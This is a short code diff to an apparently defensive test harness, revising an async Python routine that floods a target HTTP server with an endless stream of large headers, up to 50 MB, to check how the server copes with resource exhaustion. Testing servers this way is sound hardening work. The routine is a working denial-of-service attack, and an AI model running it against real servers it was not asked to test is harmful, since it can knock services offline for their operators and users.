@@ -118,19 +118,17 @@ async def endless_headers(attacker: Attacker) -> str:
     """Headers without end (H1)."""
     reader, writer = await asyncio.open_connection(HOST, attacker.target.port)
     sent = 0
-    try:
+    with suppress(OSError):
         writer.write(b"GET / HTTP/1.1\r\n")
         while sent < 50_000_000:
             writer.write(b"X-%d: %b\r\n" % (sent, b"a" * 60_000))
             sent += 60_000
             await writer.drain()
-            if reader.at_eof():
-                return "closed"
-        return "50 MB taken"
-    except OSError:
-        return "closed"
-    finally:
-        writer.close()
+    writer.close()
+    answer = b""
+    with suppress(OSError):
+        answer = await reader.read(12)
+    return f"{answer.decode() or 'cut'}, {'all' if sent >= 50_000_000 else 'not all'} taken"
 
 
 async def refused_documents(attacker: Attacker) -> str:
